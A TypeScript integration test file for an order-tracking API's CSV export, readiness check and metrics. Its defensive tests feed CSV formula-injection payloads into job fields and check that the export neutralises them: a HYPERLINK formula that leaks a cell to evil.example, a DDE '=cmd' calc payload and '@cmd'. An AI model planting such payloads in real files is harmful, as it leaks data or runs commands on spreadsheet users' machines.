// The intake's HTTP side against a real database: the streamed CSV export route (and its formula
// guard, read back over real HTTP with a standard CSV parser), the intake check of /readyz, and the
// per-source gauges on /metrics.
import { randomUUID } from "node:crypto";
import { createMetrics, createRateLimits, createSiteChangeListener, hashToken, newToken, poolConnection, readIntakeStatus } from "@orderdeck/api";
import { generatePickupCode } from "@orderdeck/contracts";
import { createTestDatabase, type TestDatabase } from "@orderdeck/db/testing";
import { createLogger } from "@orderdeck/logging";
import { parse } from "csv-parse/sync";
import type { FastifyInstance } from "fastify";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { buildApp } from "../src/app.ts";

const SECRET = "test-secret-key-that-is-long-enough";
let db: TestDatabase;
let app: FastifyInstance;
let opsPool: pg.Pool;
let siteId: string;
let staffToken: string;

beforeAll(async () => {
  db = await createTestDatabase();
  opsPool = new pg.Pool({ connectionString: db.url, max: 2 });
  app = await buildApp({
    prisma: db.prisma,
    logger: createLogger({ silent: true }),
    metrics: createMetrics({ intakeStatus: () => readIntakeStatus(opsPool) }),
    version: "test",
    sessions: { secretKey: SECRET, idleMs: 3_600_000 },
    rateLimits: createRateLimits(db.pool),
    opsPool,
    corsOrigins: [],
    metricsToken: undefined,
    intake: { withConnection: poolConnection(db.pool) },
    intakeLagAlertSeconds: 600,
    siteChanges: createSiteChangeListener({ connectionString: db.url, logger: createLogger({ silent: true }) }),
    // A worker is alive for the whole file: /readyz here is about the feed.
    workerHeartbeatStaleMs: 3_600_000,
  });
  await db.pool.query("INSERT INTO worker_heartbeats (worker_id) VALUES ('intake-test-worker')");
  const site = await db.prisma.site.create({ data: { name: "Export shop", timezone: "Europe/Berlin" } });
  siteId = site.id;
  const user = await db.prisma.user.create({
    data: { siteId, email: `staff.${siteId.slice(0, 8)}@orderdeck.test`, name: "Staff", role: "STAFF", passwordHash: "not-used-here" },
  });
  staffToken = newToken();
  await db.prisma.session.create({
    data: { siteId, userId: user.id, tokenHash: hashToken(SECRET, staffToken), expiresAt: new Date(Date.now() + 3_600_000) },
  });
  for (const [i, status] of (["QUEUED", "QUEUED", "FAILED", "CANCELLED"] as const).entries()) {
    await db.prisma.job.create({
      data: {
        siteId,
        title: i === 1 ? 'Lamp, "tall"\nwith two lines' : `Part ${i}`,
        status,
        queuePosition: status === "CANCELLED" ? null : (i + 1) * 1024,
        pickupCode: generatePickupCode(),
      },
    });
  }
});

afterAll(async () => {
  await app.close();
  await opsPool.end();
  await db.drop();
});

describe("POST /exports/jobs.csv", () => {
  const post = (body: unknown, token: string | null = staffToken) =>
    app.inject({
      method: "POST",
      url: "/exports/jobs.csv",
      headers: { "content-type": "application/json", ...(token ? { authorization: `Bearer ${token}` } : {}) },
      payload: JSON.stringify(body),
    });

  it("streams the CSV of a job list filter to a signed-in user", async () => {
    const all = await post({});
    expect(all.statusCode).toBe(200);
    expect(all.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(all.headers["content-disposition"]).toMatch(/^attachment; filename="orderdeck-jobs-\d{4}-\d{2}-\d{2}\.csv"$/);
    const lines = all.body.split("\r\n");
    expect(lines[0]).toBe("\uFEFFnumber,external_id,source,status,title,customer_name,customer_email,customer_phone,material,colour,quantity,estimated_minutes,due_at,priority,price_cents,currency,payment_status,fulfilment,notes,queue_position,created_at,archived_at");
    expect(all.body).toContain('"Lamp, ""tall""\nwith two lines"');
    expect(all.body.match(/^J-\d{6},/gm)).toHaveLength(4);

    const failed = await post({ filter: { statuses: ["FAILED"] }, sort: { field: "queue", direction: "asc" } });
    expect(failed.statusCode).toBe(200);
    expect(failed.body.match(/^J-\d{6},/gm)).toHaveLength(1);
    expect(failed.body).toContain(",FAILED,Part 2,");
  });

  it("refuses without a session, and refuses a filter that is not one, with a 4xx and no file", async () => {
    const anonymous = await post({}, null);
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.headers["content-type"]).toMatch(/application\/json/);
    const wrong = await post({}, newToken());
    expect(wrong.statusCode).toBe(401);
    const bad = await post({ filter: { statuses: ["DONE"] } });
    expect(bad.statusCode).toBe(400);
    expect(bad.json<{ fieldErrors: Array<{ path: string }> }>().fieldErrors[0]?.path).toBe("filter.statuses.0");
    const extra = await post({ filter: {}, drop: "table" });
    expect(extra.statusCode).toBe(400);
  });
});

/** Hostile notes, and each as the export must write it: an apostrophe before every line that starts like a formula. */
const NOTES: Array<[string, string]> = [
  ['Please hurry\n=HYPERLINK("http://evil.example/?leak="&A1,"Click")', 'Please hurry\n\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
  ["\r\n+1+2", "'\r\n'+1+2"],
  ["@SUM(1,2)", "'@SUM(1,2)"],
  ["\t=1+1", "'\t=1+1"],
  ["-2+3", "'-2+3"],
  ["first line\rsecond\n-5 mm", "first line\rsecond\n'-5 mm"],
  ['ok, "quoted"\n@cmd', 'ok, "quoted"\n\'@cmd'],
  ["=1\n=2\r\n=3\r=4", "'=1\n'=2\r\n'=3\r'=4"],
  ["\uFF1D1+1", "'\uFF1D1+1"],
  ["nothing to see, just a comma", "nothing to see, just a comma"],
];

/** Cells of single-line fields that start like a formula. */
const TITLE = "=cmd|' /C calc'!A0";
const CUSTOMER = "+49 (0) 30 1234";
const EXTERNAL_ID = "@HYPERLINK";

// What a formula starts with (OWASP), and the full-width forms some spreadsheets read the same.
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe("POST /exports/jobs.csv with hostile text", () => {
  let url: string;
  let token: string;

  beforeAll(async () => {
    url = await app.listen({ host: "127.0.0.1", port: 0 });
    const site = await db.prisma.site.create({ data: { name: "Formula shop", timezone: "Europe/Berlin" } });
    const user = await db.prisma.user.create({
      data: { siteId: site.id, email: `staff.${site.id.slice(0, 8)}@orderdeck.test`, name: "Staff", role: "STAFF", passwordHash: "not-used-here" },
    });
    token = newToken();
    await db.prisma.session.create({ data: { siteId: site.id, userId: user.id, tokenHash: hashToken(SECRET, token), expiresAt: new Date(Date.now() + 3_600_000) } });
    const customer = await db.prisma.customer.create({ data: { siteId: site.id, name: "-Mallory", email: "=evil@example.com", phone: CUSTOMER } });
    for (const [i, [notes]] of NOTES.entries()) {
      await db.prisma.job.create({
        data: {
          siteId: site.id,
          source: "FEED",
          externalId: `${EXTERNAL_ID}-${i}`,
          title: `${TITLE} #${i}`,
          material: "@PLA",
          colour: "-black",
          customerId: customer.id,
          notes,
          status: "QUEUED",
          queuePosition: (i + 1) * 1024,
          pickupCode: generatePickupCode(),
        },
      });
    }
  });

  async function exportCsv(): Promise<string> {
    const response = await fetch(`${url}/exports/jobs.csv`, {
      method: "POST",
      headers: { "content-type": "application/json", authorization: `Bearer ${token}` },
      body: JSON.stringify({ sort: { field: "queue", direction: "asc" } }),
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    return response.text();
  }

  it("parses back into exactly one row per job, every cell neutralised and every note kept", async () => {
    const body = await exportCsv();
    // A strict parser: a cell's line break left unquoted would start a record of the wrong width, and fail here.
    const records = parse(body, { bom: true, columns: true, relax_column_count: false, relax_quotes: false }) as Array<Record<string, string>>;
    expect(records).toHaveLength(NOTES.length);
    for (const [i, record] of records.entries()) {
      for (const [column, cell] of Object.entries(record)) {
        for (const line of cell.split(/\r\n|\r|\n/)) {
          expect(FORMULA_START.test(line), `row ${i}, ${column}: line ${JSON.stringify(line)} starts like a formula`).toBe(false);
        }
      }
      expect(record.notes, `notes of row ${i}`).toBe(NOTES[i]?.[1]);
      expect(record).toMatchObject({
        external_id: `'${EXTERNAL_ID}-${i}`,
        title: `'${TITLE} #${i}`,
        customer_name: "'-Mallory",
        customer_email: "'=evil@example.com",
        customer_phone: `'${CUSTOMER}`,
        material: "'@PLA",
        colour: "'-black",
        status: "QUEUED",
      });
    }
  });

  it("quotes every cell that holds a line break, so no physical line of the file starts like a formula", async () => {
    const body = await exportCsv();
    // A reader that takes any line break for the end of a record (as a spreadsheet does with a bare
    // LF left unquoted) still finds no line that starts a formula.
    for (const line of body.replace(/^\uFEFF/, "").split(/\r\n|\r|\n/)) {
      expect(FORMULA_START.test(line), `physical line ${JSON.stringify(line)}`).toBe(false);
    }
    const multiline = NOTES.filter(([notes]) => /[\r\n]/.test(notes)).map(([, written]) => written);
    for (const written of multiline) expect(body).toContain(`"${written.replaceAll('"', '""')}"`);
  });
});

describe("intake on /readyz and /metrics", () => {
  it("is ready with no feed, not ready while an enabled source lags past the limit, and ready once it has caught up", async () => {
    const none = await app.inject({ method: "GET", url: "/readyz" });
    expect(none.json<{ checks: Array<{ name: string; ok: boolean; detail: string }> }>().checks.at(-1)).toEqual({
      name: "intake",
      ok: true,
      detail: "no enabled feed source",
    });

    // Added two hours ago and never read: behind since then.
    const source = await db.prisma.intakeSource.create({
      data: { siteId, name: "Storefront", kind: "storefront-json", baseUrl: "http://127.0.0.1:9", createdAt: new Date(Date.now() - 7_200_000), consecutiveFailures: 3 },
    });
    const behind = await app.inject({ method: "GET", url: "/readyz" });
    expect(behind.statusCode).toBe(503);
    const check = behind.json<{ checks: Array<{ name: string; ok: boolean; detail: string }> }>().checks.find((c) => c.name === "intake");
    expect(check?.ok).toBe(false);
    expect(check?.detail).toMatch(/largest lag 7\d{3} s \(limit 600 s\); most consecutive failures 3; behind the limit: source /);
    expect(check?.detail).toContain(source.id);
    expect(check?.detail).not.toContain("Storefront");

    const metrics = await app.inject({ method: "GET", url: "/metrics" });
    expect(metrics.body).toContain("orderdeck_intake_status_up 1");
    expect(metrics.body).toMatch(new RegExp(`orderdeck_intake_lag_seconds\\{site_id="${siteId}",source_id="${source.id}",source="Storefront"\\} 7\\d{3}`));
    expect(metrics.body).toContain(`orderdeck_intake_consecutive_failures{site_id="${siteId}",source_id="${source.id}",source="Storefront"} 3`);

    const now = new Date();
    await db.prisma.intakeRun.create({
      data: {
        siteId,
        sourceId: source.id,
        mode: "INCREMENTAL",
        status: "SUCCEEDED",
        startedAt: now,
        finishedAt: now,
        rowsSeen: 5,
        rowsInserted: 3,
        rowsUnchanged: 1,
        rowsRejected: 1,
      },
    });
    await db.prisma.intakeSource.update({
      where: { id: source.id },
      data: { lastSuccessAt: now, consecutiveFailures: 0, sourceNewestAt: now, syncedThroughAt: now },
    });
    const caughtUp = await app.inject({ method: "GET", url: "/readyz" });
    expect(caughtUp.statusCode).toBe(200);
    const after = await app.inject({ method: "GET", url: "/metrics" });
    expect(after.body).toContain(`orderdeck_intake_lag_seconds{site_id="${siteId}",source_id="${source.id}",source="Storefront"} 0`);
    expect(after.body).toContain(`orderdeck_intake_last_run_rows{site_id="${siteId}",source_id="${source.id}",source="Storefront",outcome="inserted"} 3`);
    expect(after.body).toContain(`orderdeck_intake_last_run_rows{site_id="${siteId}",source_id="${source.id}",source="Storefront",outcome="rejected"} 1`);

    // A disabled source is not watched.
    await db.prisma.intakeSource.update({ where: { id: source.id }, data: { enabled: false, syncedThroughAt: null } });
    expect((await app.inject({ method: "GET", url: "/readyz" })).statusCode).toBe(200);
    expect((await app.inject({ method: "GET", url: "/metrics" })).body).not.toContain(`source_id="${source.id}"`);
  });

  it("keeps /metrics answering when the intake state cannot be read", async () => {
    const broken = await buildApp({
      prisma: db.prisma,
      logger: createLogger({ silent: true }),
      metrics: createMetrics({ intakeStatus: () => Promise.reject(new Error(`no database ${randomUUID()}`)) }),
      version: "test",
      sessions: { secretKey: SECRET, idleMs: 3_600_000 },
      rateLimits: createRateLimits(db.pool),
      opsPool,
      corsOrigins: [],
      metricsToken: undefined,
      intake: { withConnection: poolConnection(db.pool) },
      siteChanges: createSiteChangeListener({ connectionString: db.url, logger: createLogger({ silent: true }) }),
      workerHeartbeatStaleMs: 3_600_000,
    });
    const res = await broken.inject({ method: "GET", url: "/metrics" });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain("orderdeck_intake_status_up 0");
    expect(res.body).not.toMatch(/^orderdeck_intake_lag_seconds\{/m);
    await broken.close();
  });
});
